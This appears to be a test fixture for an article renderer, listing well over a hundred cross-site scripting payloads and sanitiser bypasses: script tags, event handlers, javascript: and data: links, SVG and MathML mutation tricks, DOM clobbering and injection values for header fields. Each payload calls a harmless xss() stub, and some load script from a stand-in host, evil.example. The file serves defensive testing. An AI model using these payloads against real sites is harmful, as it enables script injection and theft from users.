/*
 * Ways to get a script into a page, from public knowledge: the OWASP cheat sheet on filter evasion, the PortSwigger
 * cheat sheet, published bypasses of sanitisers (mutation XSS through MathML, SVG, noscript, templates), and the places
 * where this renderer itself writes what an article says. Each calls `xss()` when it wins.
 */

/** An article's body, by name. */
export const bodyVectors: Readonly<Record<string, string>> = {
  // Scripts
  'script element': '<script>xss()</script>',
  'script in text': '甲<script>xss()</script>乙',
  'script in upper case': '<SCRIPT>xss()</SCRIPT>',
  'script with a slash': '<script/x>xss()</script/x>',
  'script left open': '<script>xss()',
  'script in a script': '<scr<script>ipt>xss()</scr</script>ipt>',
  'script split over blocks': '<script>\n\nxss()\n\n</script>',
  'script from elsewhere': '<script src="https://evil.example/x.js"></script>',
  'script from a data URL': '<script src="data:text/javascript,xss()"></script>',
  'module script': '<script type="module">xss()</script>',
  'script after a NUL': '<scr\u0000ipt>xss()</scr\u0000ipt><script>xss()</script>',
  'script after a comment': '<!-- --!><script>xss()</script> -->',
  'script after a short comment': '<!--><script>xss()</script>-->',
  'script after CDATA': '<![CDATA[<script>xss()</script>]]>',
  'script in a processing instruction': '<?x ><script>xss()</script>?>',
  'script in a doctype': '<!DOCTYPE x "><script>xss()</script>',

  // Event handlers
  'image error': '<img src="x" onerror="xss()">',
  'image error without quotes': '<img src=x onerror=xss()>',
  'image error with slashes': '<img/src=x/onerror=xss()>',
  'image error with grave accents': '<img src=`x` onerror=xss()>',
  'image error after a line end': '甲<img src=x\nonerror=xss()>',
  'image error in mixed case': '<IMG SRC=x oNeRrOr=xss()>',
  'image error in entities': '<img src=x onerror="&#120;&#115;&#115;()">',
  'image error after a quote': '<img """><img src=x onerror=xss()>',
  'image error with a form feed': '<img\fsrc=x\fonerror=xss()>',
  'image load':
    '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="xss()" onerror="xss()">',
  'body load': '<body onload="xss()">',
  'mouse over': '<b onmouseover="xss()">甲</b>',
  click: '<p onclick="xss()">甲</p>',
  'focus by itself': '<input autofocus onfocus="xss()">',
  'focus by tab index': '<div tabindex="0" autofocus onfocus="xss()">甲</div>',
  'details toggle': '<details open ontoggle="xss()"><summary>甲</summary></details>',
  'animation end':
    '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="xss()">甲</b>',
  'marquee start': '<marquee onstart="xss()">甲</marquee>',
  'video source error': '<video><source onerror="xss()"></video>',
  'audio error': '<audio src="x" onerror="xss()">',
  'select focus': '<select autofocus onfocus="xss()"><option>甲</select>',
  'pointer on ruby': '<ruby onpointerover="xss()">甲<rt onclick="xss()">x</rt></ruby>',
  'popover toggle':
    '<button popovertarget="x">甲</button><div popover id="x" onbeforetoggle="xss()">乙</div>',
  'hidden until found': '<div hidden="until-found" onbeforematch="xss()">甲</div>',

  // Addresses
  'javascript link': '[甲](javascript:xss())',
  'javascript link in mixed case': '[甲](JaVaScRiPt:xss())',
  'javascript link with an entity': '[甲](javascript&colon;xss())',
  'javascript link with a numeric entity': '[甲](&#106;avascript:xss())',
  'javascript link in angle brackets': '[甲](<java\tscript:xss()>)',
  'javascript link after a control character': '[甲](<\u0001javascript:xss()>)',
  'javascript by reference': '[甲][乙]\n\n[乙]: javascript:xss()',
  'javascript autolink': '<javascript:xss()>',
  'javascript after a line': '<a href="javascript://%0Axss()">甲</a>',
  'javascript in HTML': '<a href="javascript:xss()">甲</a>',
  'javascript with a tab': '<a href="java&Tab;script:xss()">甲</a>',
  'javascript with a line end': '<a href="java&NewLine;script&colon;xss()">甲</a>',
  'javascript after spaces': '<a href=" &#14; javascript:xss()">甲</a>',
  'javascript without quotes': '<a href=javascript:xss()>甲</a>',
  'vbscript link': '[甲](vbscript:xss())',
  'data link': '[甲](data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==)',
  'data link in HTML':
    '<a href="data:text/html,<script>parent.xss()</script>" target="_self">甲</a>',
  'javascript image': '![甲](javascript:xss())',
  'data image of SVG': '![甲](data:image/svg+xml,<svg/onload=xss()>)',
  'image map':
    '<img usemap="#m" src="x"><map name="m"><area href="javascript:xss()" coords="0,0,99,99"></map>',
  'javascript in a citation': '<blockquote cite="javascript:xss()">甲</blockquote>',
  'javascript background': '<table background="javascript:xss()"><tr><td>甲</table>',
  'javascript poster': '<video poster="javascript:xss()" src="javascript:xss()"></video>',
  ping: '<a href="https://a.example" ping="javascript:xss()">甲</a>',

  // Breaking out of what Markdown writes
  'link title': '[甲](x "\\" onmouseover=\\"xss()")',
  'link target with a quote': '[甲](x"onmouseover="xss())',
  'image alternative': '![甲" onerror="xss()](x)',
  'image title': '![甲](x "乙\\" onerror=\\"xss()")',
  'info string': '```js" onmouseover="xss()\n甲\n```',
  'info string with HTML': '~~~ <img/src=x/onerror=xss()>\n甲\n~~~',
  'code with HTML': '```html\n</code></pre><img src=x onerror=xss()>\n```',
  'highlighted code': '```js\n"</span><img src=x onerror=xss()>"\n```',
  'code of a language named as a script': '```text/html><script>xss()</script>\n甲\n```',
  'inline code': '`</code><img src=x onerror=xss()>`',
  'table cell': '| 甲 |\n| --- |\n| <img src=x onerror=xss()> |',
  'table alignment': '<table><tr><td align="left\' onclick=\'xss()" onclick="xss()">甲</table>',
  'footnote label': '甲[^"><img src=x onerror=xss()>]\n\n[^"><img src=x onerror=xss()>]: 乙',
  'footnote text': '甲[^1]\n\n[^1]: <img src=x onerror=xss()> [乙](javascript:xss())',
  heading: '## <img src=x onerror=xss()>\n\n## 乙\n\n## 丙',
  'heading with a quote': '## "><img src=x onerror=xss()>\n\n## 乙\n\n## 丙',
  'heading as an escape': '## \\"\\>\\<img src=x onerror=xss()\\>\n\n## 乙\n\n## 丙',
  'reference label':
    '[甲"><img src=x onerror=xss()>]\n\n[甲"><img src=x onerror=xss()>]: javascript:xss()',
  'bare address': 'https://a.example/"onmouseover="xss()"/<img src=x onerror=xss()>',
  'task list': '- [x] <img src=x onerror=xss()>',
  'attribution in the body':
    '> 译自：[<img src=x onerror=xss()>](javascript:xss())\n>\n> 作者：<img src=x onerror=xss()>',

  // Foreign content
  'SVG load': '<svg onload="xss()"></svg>',
  'SVG script': '<svg><script>xss()</script></svg>',
  'SVG script with an entity': '<svg><script>xss&#40;&#41;</script></svg>',
  'SVG link': '<svg><a xlink:href="javascript:xss()"><text y="20">甲</text></a></svg>',
  'SVG animation':
    '<svg><a><animate attributeName="href" values="javascript:xss()"/><text y="20">甲</text></a></svg>',
  'SVG set':
    '<svg><set attributeName="onmouseover" to="xss()"/><rect width="99" height="99"/></svg>',
  'SVG use': "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='xss()'/>#x\"/></svg>",
  'SVG foreign object': '<svg><foreignObject><img src=x onerror=xss()></foreignObject></svg>',
  'SVG in a paragraph': '甲<svg><desc><p><img src=x onerror=xss()></svg>',
  'MathML link': '<math href="javascript:xss()">甲</math>',
  'MathML action':
    '<math><maction actiontype="statusline" xlink:href="javascript:xss()">甲</maction></math>',

  // Elements that load or act
  frame: '<iframe src="javascript:parent.xss()"></iframe>',
  'frame with a document': '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
  object: '<object data="javascript:xss()"></object>',
  'object with data': '<object data="data:text/html,<script>parent.xss()</script>"></object>',
  embed: '<embed src="javascript:xss()">',
  applet: '<applet code="javascript:xss()"></applet>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=javascript:xss()">',
  'meta policy':
    '<meta http-equiv="Content-Security-Policy" content="script-src *"><script>xss()</script>',
  base: '<base href="javascript:xss();//"><a href="x">甲</a>',
  'link import': '<link rel="stylesheet" href="data:text/css,*{background:url(javascript:xss())}">',
  preload: '<link rel="preload" as="script" href="https://evil.example/x.js" onload="xss()">',
  'form action': '<form action="javascript:xss()"><button>甲</button></form>',
  'button action': '<form><button formaction="javascript:xss()">甲</button></form>',
  'input image': '<input type="image" src="x" onerror="xss()">',
  'style import': '<style>@import "javascript:xss()";</style>',
  'style attribute': '<b style="background:url(javascript:xss());behavior:url(x)">甲</b>',
  'style that closes itself': '<style></style><img src=x onerror=xss()></style>',
  'custom element': '<x-y onclick="xss()" is="x">甲</x-y>',
  'slot and template':
    '<div><template shadowrootmode="open"><img src=x onerror=xss()></template></div>',
  dialog: '<dialog open onclose="xss()"><form method="dialog"><button>甲</button></form></dialog>',

  // Mutation: what a browser reads is not what was judged
  noscript: '<noscript><p title="</noscript><img src=x onerror=xss()>"></noscript>',
  noembed: '<noembed><p title="</noembed><img src=x onerror=xss()>"></noembed>',
  noframes: '<noframes><p title="</noframes><img src=x onerror=xss()>"></noframes>',
  textarea: '<textarea><p title="</textarea><img src=x onerror=xss()>"></textarea>',
  title: '<title><p title="</title><img src=x onerror=xss()>"></title>',
  'title in SVG':
    '<svg></p><title><style><img title="</style><img src=x onerror=xss()>"></title></svg>',
  xmp: '<xmp><p title="</xmp><img src=x onerror=xss()>"></xmp>',
  plaintext: '<plaintext><img src=x onerror=xss()>',
  template: '<template><img src=x onerror=xss()></template>',
  'style in SVG': '<svg><style><img title="</style><img src=x onerror=xss()>"></svg>',
  'style in MathML':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=xss()&gt;">',
  'forms in MathML':
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=xss()></style></mglyph></form></math>',
  'nested comment in SVG': '<svg><p><style><!--</style><img src=x onerror=xss()>--></svg>',
  annotation:
    '<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=xss()>">',
  'select in a template':
    '<select><template><script>xss()</script></template><img src=x onerror=xss()></select>',
  'table in a paragraph':
    '<p><table><a href="javascript:xss()"><tr><td><img src=x onerror=xss()></table>',
  'formatting kept open': '<b><a href="javascript:xss()" onclick="xss()">甲\n\n<p>乙\n\n丙',
  'attribute with a bracket': '<a title="<img src=x onerror=xss()>" href="x">甲</a>',
  'attribute with a grave accent': '<a title="``onmouseover=xss()">甲</a>',
  'attribute twice': '<a href="x" href="javascript:xss()" onclick="" onclick="xss()">甲</a>',
  'characters beyond':
    '<img src=x on\u0085error=xss()><img src=x onerror\u00A0=xss()><ıframe src="javascript:xss()">',
  'encoded angle brackets':
    '&lt;img src=x onerror=xss()&gt; ＜script＞xss()＜/script＞ +ADw-script+AD4-xss()',
  'double encoding':
    '<a href="%6a%61%76%61script:xss()">甲</a><b title="&amp;quot; onclick=xss()">乙</b>',

  // Clobbering, and names that the page or the renderer uses
  'clobbered names':
    '<form name="createElement"><input name="body"></form><img name="querySelectorAll"><a id="alert" href="javascript:xss()">甲</a>',
  'clobbered nodes':
    '<form id="f"><input name="attributes"><input name="parentNode"></form><b onclick="xss()">甲</b>',
  'placeholder of a block':
    '<div block="0" " block="1" onclick="xss()">\n\n<img src=x onerror=xss()>\n\n</div>',
  'anchor name': '<a name="x&quot; onclick=&quot;xss()" id="\'><img src=x onerror=xss()>">甲</a>',
  fragment: '[甲](#"><img/src=x/onerror=xss()>) [乙](#%22onclick=%22xss())',
  'footnote markup by hand':
    '<section data-footnotes class="footnotes"><a data-footnote-backref href="javascript:xss()" class="data-footnote-backref">甲</a></section>',
}

/** Values for every place of the header, the attribution and the configuration. */
export const valueVectors: readonly string[] = [
  '<script>xss()</script>',
  '</script><script>xss()</script>',
  '</script ><img src=x onerror=xss()>',
  '<!--<script>xss()//',
  '<!--<script>',
  ']]><script>xss()</script>',
  '</title><script>xss()</script>',
  '</style><script>xss()</script>',
  '"><img src=x onerror=xss()>',
  "'><img src=x onerror=xss()>",
  '" onmouseover="xss()" x="',
  "' onmouseover='xss()' x='",
  '` onmouseover=`xss()',
  'javascript:xss()',
  'JAVASCRIPT:xss()',
  ' javascript:xss()',
  'java\tscript:xss()',
  'javascript://a.example/%0Axss()',
  'vbscript:xss()',
  'data:text/html,<script>xss()</script>',
  'data:image/svg+xml,<svg onload="xss()">',
  '//evil.example/"onerror="xss()',
  'https://a.example/"onmouseover="xss()',
  'https://a.example/<img src=x onerror=xss()>',
  './x.png" onerror="xss()',
  'x onerror=xss()',
  '\\u003c/script\\u003e\\u003cscript\\u003exss()\\u003c/script\\u003e',
  '\u2028xss()\u2029',
  '&lt;script&gt;xss()&lt;/script&gt;',
  '0;url=javascript:xss()',
  '{{constructor.constructor("xss()")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of JavaScript is what it is meant to be
  '${xss()}',
]
